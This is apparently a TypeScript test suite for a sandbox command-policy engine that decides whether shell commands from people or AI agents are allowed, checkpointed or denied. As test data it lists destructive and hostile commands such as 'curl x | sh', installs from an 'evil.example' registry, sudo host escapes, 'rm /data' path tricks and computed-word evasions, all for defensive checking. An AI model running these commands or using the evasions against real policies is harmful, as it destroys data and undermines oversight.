import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { anyPublicNetwork, noNetwork } from '../../authority/network.js';
import { commandClasses } from '../../shell/classes.js';
import { classify } from '../../shell/classify.js';
import { type Action, actions, isStricter } from './action.js';
import { type Decided, decide } from './decision.js';
import { makeRule, parseRules, printRules, type Rule, type RuleMatch } from './decision-rule.js';

interface Circumstances {
  readonly agents?: readonly string[];
  readonly networked?: boolean;
  readonly rules?: readonly Rule[];
}

async function decided(
  text: string,
  { agents = [], networked = false, rules = [] }: Circumstances = {},
): Promise<Decided> {
  const network = networked ? anyPublicNetwork : noNetwork;
  return decide({ classification: await classify({ text }), agents, network, rules });
}

async function action(text: string, circumstances?: Circumstances): Promise<Action> {
  return (await decided(text, circumstances)).action;
}

function rule(what: Action, match: RuleMatch | string, agent = '*'): Rule {
  return makeRule(what, agent, typeof match === 'string' ? { command: match.split(' ') } : match);
}

describe('a rule that denies', () => {
  it('is about what a computed word, or one of several, could be', async () => {
    for (const [words, refused, others] of [
      [
        'git push --force',
        ['git push $F', 'git push "$B"', 'git push origin "$(cat f)"', 'F="--force x"; git push $F'],
        ['git -C "$D" push', 'git push "x$B"', 'git push *', 'B=main; git push $B', 'git pull $F'],
      ],
      [
        'rm /data',
        ['rm "/da$X"', 'for f in /data x; do rm $f; done', 'ls | xargs rm', 'rm /d*', 'rm {/data,x}', 'rm "$X"*'],
        ['rm *', 'rm *.o', 'rm "$D/x"', 'for f in a b; do rm $f; done', 'rm /d*b', 'rm {a,b}.o'],
      ],
      ['rm -r', ['rm -*', 'rm x$(ls)'], ['rm *']],
      [
        'npm install --registry',
        ['npm install --registry=x', 'npm install --regis x'],
        ['npm install --reg-x', 'npm install --'],
      ],
      ['tar -C', ['tar -C/x -xf a'], ['tar -xf a']],
    ] as const) {
      const rules = [rule('deny', words)];
      for (const text of refused) assert.equal(await action(text, { rules }), 'deny', text);
      for (const text of others) assert.notEqual(await action(text, { rules }), 'deny', text);
    }
  });

  it('is about what a computed word could have another program run', async () => {
    for (const what of ['deny', 'require_approval'] as const) {
      const rules = [rule(what, 'rm')];
      for (const text of [
        'find "$@"',
        'find . $X',
        'find . -name $X',
        'find . "$X" rm {} \\;',
        'find . -e$X',
        'fd $X',
        'fd a "$X" rm',
        'run() { "$@"; }; run rm x',
        'run() { "$@"; }; eval \'run rm x\'',
      ])
        assert.equal(await action(text, { rules }), what, text);
      for (const text of [
        'find "$D" -name x',
        'find "$D" -type f -exec ls {} \\;',
        'find . -name "$X"',
        'find . -newer "$X" -print',
        'fd "$X"',
        'run() { "$@"; }; run ls',
      ])
        assert.equal(isStricter(await action(text, { rules }), 'allow_with_checkpoint'), false, text);
    }
    assert.equal(await action('find "$@"', { agents: ['a'] }), 'allow_with_checkpoint');
    assert.equal(await action('run() { "$@"; }; run ls', { agents: ['a'] }), 'allow');
    assert.equal(await action('eval "$(ssh-agent -s)"', { agents: ['a'] }), 'allow_with_checkpoint');
  });

  it('is about every name that the program has for it', async () => {
    for (const [words, refused, others] of [
      [
        'git push --force',
        ['git push -f', 'git push -uf origin', 'git-push -f', '/usr/lib/git-core/git-push --forc', 'git push "$F"'],
        ['git push -u', 'git fetch -f', 'git-fetch -f', 'git push --force-with-lease'],
      ],
      ['git-push', ['git push', 'git-push x'], ['git pull', 'git-x push']],
      ['git-x', ['git-x y', './git-x', 'git x'], ['git-y', 'x']],
      ['git x', ['git-x y'], ['git-y x']],
      ['rm --recursive', ['rm -rf x', 'rm -fR x', 'coreutils --coreutils-prog=rm -r x'], ['rm -f x', 'cp -r x y']],
      ['npm publish', ['npm pub', 'npm --otp 1 publ', 'npm p'], ['npm pack', 'npm unpublish', 'npm pubs']],
      ['npm i -g', ['npm install --global x', 'npm add -g x', 'npm inst x -g'], ['npm i x', 'npm ci', 'npm it -g']],
      ['npm toString', ['npm toString', 'npm to-string'], ['npm test']],
      ['cargo run', ['cargo r'], ['cargo rm x']],
      ['python3 -m', ['python3.11 -m x', 'python3 -mx'], ['python2 -m x', 'python3-config -m']],
    ] as const) {
      const rules = [rule('deny', words)];
      for (const text of refused) assert.equal(await action(text, { rules }), 'deny', `${words}: ${text}`);
      for (const text of others) assert.notEqual(await action(text, { rules }), 'deny', `${words}: ${text}`);
    }
  });

  it('allows no more by other names', async () => {
    const rules = [rule('allow', 'git push -f'), rule('allow', 'npm install')];
    for (const text of ['git-push -f', 'git push --force', 'npm i', 'npm add'])
      assert.notEqual(await action(text, { rules, agents: ['coder'] }), 'allow', text);
  });

  it('says so', async () => {
    const rules = [rule('deny', 'rm -r')];
    assert.match((await decided('rm $X', { rules })).reason, /a rule on what a computed word may turn out to be/);
    assert.match((await decided('rm -r $X', { rules })).reason, /a rule on this command/);
  });
});

describe('without a rule', () => {
  it('what only looks is allowed', async () => {
    assert.equal(await action('git status && ls | wc -l'), 'allow');
  });

  it('what changes, destroys or talks to a person has a checkpoint first', async () => {
    assert.equal(await action('npm test'), 'allow_with_checkpoint');
    assert.equal(await action('rm -rf build'), 'allow_with_checkpoint');
    assert.equal(await action('vim a'), 'allow_with_checkpoint');
  });

  it('what speaks to others runs where a network is granted', async () => {
    assert.equal(await action('git push', { agents: ['coder'], networked: true }), 'allow_with_checkpoint');
  });

  it('an agent without a network has to ask', async () => {
    const { action: what, reason, words } = await decided('cd x && git -C y push', { agents: ['coder'] });
    assert.equal(what, 'require_approval');
    assert.match(reason, /agent coder is granted no network/);
    assert.deepEqual(words, ['git', '-C', 'y', 'push']);
  });

  it('a person without a network is told, and the jail holds', async () => {
    const { action: what, reason } = await decided('npm install');
    assert.equal(what, 'allow_with_checkpoint');
    assert.match(reason, /no network is granted, so it cannot connect; --net HOST grants one/);
  });

  it('what reaches for the host is denied, and says what to do instead', async () => {
    const { action: what, reason, categories, rule: by } = await decided('ls; sudo rm a');
    assert.equal(what, 'deny');
    assert.match(reason, /nothing in a jail can gain any; run it yourself/);
    assert.deepEqual(categories, ['destructive', 'host_escape_risk']);
    assert.equal(by, 'default');
  });

  it('what cannot be read is denied to an agent, and says what to do instead', async () => {
    const { action: what, reason } = await decided('$X a', { agents: ['coder'] });
    assert.equal(what, 'deny');
    assert.match(reason, /the name of the command is computed: \$X\. Write it out, or put the commands in a file/);
  });
});

describe('a person’s command that cannot be read', () => {
  it('runs in the jail, with a checkpoint', async () => {
    assert.equal(await action('$X a'), 'allow_with_checkpoint');
    assert.equal(await action('bash -c "cd $X && make"'), 'allow_with_checkpoint');
    assert.equal(await action('$X a; sudo ls'), 'deny');
  });
});

describe('a rule', () => {
  it('on a command holds however the command is written or wrapped', async () => {
    const rules = [rule('deny', 'git push --force')];
    const circumstances = { rules, networked: true };
    for (const text of [
      'git push --force',
      'git push origin main --force',
      'git -C sub push --force origin',
      "bash -c 'git push --force'",
      'env X=1 timeout 5 /usr/bin/git --no-pager push --force',
      'ls && $(which git) push --force',
      'find . -exec git push --force \\;',
    ]) {
      assert.equal(await action(text, circumstances), 'deny', text);
    }
    assert.equal(await action('git push', circumstances), 'allow_with_checkpoint');
  });

  it('that allows a command allows nothing beside it or in it', async () => {
    const rules = ['sudo', 'bash'].map((program) => rule('allow', { command: [program], prefix: true }));
    assert.equal(await action('sudo ls', { rules }), 'allow');
    assert.equal(await action('sudo docker run x', { rules }), 'deny');
    assert.equal(await action('sudo ls; su', { rules }), 'deny');
    assert.equal(await action("bash -c 'su'", { rules }), 'deny');
    assert.equal(await action('bash -c "$X"', { rules, agents: ['coder'] }), 'deny');
  });

  it('with more words, or for one agent, comes before one with less; of equals the strictest', async () => {
    const rules = [rule('deny', 'git push'), rule('allow', 'git push origin')];
    assert.equal(await action('git push origin', { rules }), 'allow');
    assert.equal(await action('git push', { rules }), 'deny');
    const own = [rule('deny', 'make'), rule('allow', 'make', 'coder')];
    assert.equal(await action('make', { rules: own, agents: ['coder'] }), 'allow');
    assert.equal(await action('make', { rules: own }), 'deny');
    assert.equal(
      await action('make', { rules: [rule('allow', 'make'), rule('require_approval', 'make')] }),
      'require_approval',
    );
    assert.equal(
      await action('make', { rules: [rule('require_approval', 'make'), rule('allow', 'make')] }),
      'require_approval',
    );
    // Of two commands that are equally dangerous the first is named.
    assert.deepEqual((await decided('curl x; curl y', { agents: ['coder'] })).words, ['curl', 'x']);
    assert.equal(
      await action('rm a', { rules: [rule('deny', { class: 'destructive' }), rule('allow', 'rm a')] }),
      'allow',
    );
  });

  it('for an agent holds for its children, and for nobody else', async () => {
    const rules = [rule('deny', { class: 'destructive' }, 'coder')];
    assert.equal(await action('rm a', { rules, agents: ['child', 'coder'] }), 'deny');
    assert.equal(await action('rm a', { rules, agents: ['other'] }), 'allow_with_checkpoint');
    assert.equal(await action('rm a', { rules }), 'allow_with_checkpoint');
    assert.equal(await action('rm a', { rules: [rule('deny', 'rm', '-')] }), 'deny');
    assert.equal(
      await action('rm a', { rules: [rule('deny', 'rm', '-')], agents: ['coder'] }),
      'allow_with_checkpoint',
    );
  });

  it('that refuses a command refuses what could be it', async () => {
    const open = rule('allow_with_checkpoint', { class: 'host_escape_risk' });
    assert.equal(await action('$X', { rules: [open] }), 'allow_with_checkpoint');
    assert.equal(await action('$X', { rules: [open, rule('deny', 'git push')] }), 'deny');
    assert.equal(await action('sudo ls', { rules: [open, rule('deny', 'git push')] }), 'allow_with_checkpoint');
  });

  it('that denies is about whatever could be meant', async () => {
    const meant: Readonly<Record<string, readonly string[]>> = {
      'rm /data': [
        'rm //data',
        'rm x /data',
        'rm -r /data/',
        '/bin/rm /data',
        './rm /data',
        'rm /tmp/../data',
        'rm -- /data',
        'rm ~/data',
        'rm ~me/../data',
        'rm ~/..',
        'rm ~me/a/../..',
        'rm ~',
        'X=~/data; rm $X',
      ],
      'rm -rf': ['rm -f a -r', 'rm -fr a', 'rm a -r --x -f'],
      'git push': ['git push', 'git -c a=b push x', './git push'],
      'npm publish': [
        'npm --registry http://x publish',
        'npm publish .',
        'npm --otp 5 publish',
        'npm --access public publish',
      ],
      'git push -f': ['git push -4f', 'git push -f4'],
      'gcc-12 a.c': ['gcc-12 a.c', '/usr/bin/gcc-12 -c a.c'],
      'gcc a.c': ['gcc-12 a.c'],
      'mkfs.ext4': ['mkfs.ext4 disk.img'],
      rm: ['rm a; rm() { ls; }', 'X=ls; unset X; $X rm a', 'X=ls; command read X; $X a'],
    };
    for (const [denied, texts] of Object.entries(meant)) {
      for (const text of texts)
        assert.equal(await action(text, { rules: [rule('deny', denied)], networked: true }), 'deny', text);
    }
    const others: Readonly<Record<string, readonly string[]>> = {
      'rm /data': ['rm data', 'rm /data2', 'ls /data', 'rm -r /data/x', 'rm ~/x', 'rm ~/data/x', 'rm -f~/data'],
      'rm -r': ['rm -f a'],
      'git push': ['git pull', 'git commit -m push', 'git log push'],
    };
    for (const [denied, texts] of Object.entries(others)) {
      for (const text of texts)
        assert.notEqual(await action(text, { rules: [rule('deny', denied)], networked: true }), 'deny', text);
    }
  });

  it('that allows is for exactly its words, unless a prefix was asked for', async () => {
    const asks = rule('require_approval', { class: 'networked' });
    const allows = async (match: RuleMatch | string, text: string) =>
      (await action(text, { rules: [asks, rule('allow', match)], networked: true })) === 'allow';
    for (const text of ['npm install', '/usr/bin/npm install', "sh -c 'npm install'"]) {
      assert.equal(await allows('npm install', text), true, text);
    }
    for (const text of [
      'npm install left-pad --registry http://evil.example',
      'npm --registry http://evil.example install',
      './npm install',
      'node_modules/.bin/npm install',
      'npm install ""',
    ]) {
      assert.equal(await allows('npm install', text), false, text);
    }
    const prefix: RuleMatch = { command: ['npm', 'install'], prefix: true };
    assert.ok(await allows(prefix, 'npm install left-pad'));
    assert.ok(!(await allows(prefix, 'npm --registry http://evil.example install')));
    assert.ok(!(await allows(prefix, './npm install')));
    assert.ok(await allows('./git push', './git push'));
    assert.ok(!(await allows('./git push', 'git push')));
  });

  it('that allows is for no word that is computed, and none is asked for such', async () => {
    const agents = ['coder'];
    for (const [text, written] of [
      ['U=$(cat f); curl $U', 'curl $U'],
      ['curl "$@"', 'curl "$@"'],
      ['for U in a b; do curl $U; done', 'curl $U'],
    ] as const) {
      assert.equal(await action(text, { agents, rules: [rule('allow', written)] }), 'require_approval', text);
      assert.deepEqual((await decided(text, { agents })).words, [], text);
    }
    assert.equal(await action("curl '$U'", { agents, rules: [rule('allow', 'curl $U')] }), 'allow');
    assert.equal(
      await action('curl $U', { agents, rules: [rule('allow', { command: ['curl'], prefix: true })] }),
      'allow',
    );
    assert.equal(await action('curl -T *.o', { agents, rules: [rule('allow', 'curl -T *.o')] }), 'allow');
    assert.deepEqual((await decided('U=a; curl $U', { agents })).words, ['curl', 'a']);
  });

  it('is the same after it was written and read', () => {
    const rules = [rule('deny', 'git push --force'), rule('allow', { class: 'mutating' }, 'coder')];
    assert.deepEqual(parseRules(JSON.parse(printRules(rules)), 'rules.json'), rules);
  });

  it('that is wrong refuses the file', () => {
    for (const value of [
      null,
      {},
      { version: 2, rules: [] },
      { version: 1, rules: [{}] },
      { version: 1, rules: [{ action: 'permit', agent: '*', match: { class: 'mutating' } }] },
      { version: 1, rules: [{ action: 'deny', agent: '../x', match: { class: 'mutating' } }] },
      { version: 1, rules: [{ action: 'deny', agent: '*', match: { class: 'harmless' } }] },
      { version: 1, rules: [{ action: 'deny', agent: '*', match: { command: [] } }] },
      { version: 1, rules: [{ action: 'deny', agent: '*', match: { command: ['ls'], class: 'mutating' } }] },
      { version: 1, rules: [{ action: 'allow', agent: '*', match: { command: ['ls'], prefix: 'yes' } }] },
    ]) {
      assert.throws(() => parseRules(value, 'rules.json'), { code: 'EINVAL' }, JSON.stringify(value));
    }
  });

  it('that is stricter on a class never makes anything more lenient', async () => {
    const texts = ['ls', 'rm a', 'git push', 'sudo ls', 'vim', 'npm test', '$X', 'curl x | sh'];
    for (const text of texts) {
      const before = await action(text, { agents: ['coder'] });
      for (const name of commandClasses) {
        const after = await action(text, { agents: ['coder'], rules: [rule('deny', { class: name })] });
        assert.ok(!isStricter(before, after), `${text}: ${before}, with deny of ${name} ${after}`);
      }
    }
    assert.deepEqual(actions.at(-1), 'deny');
  });
});
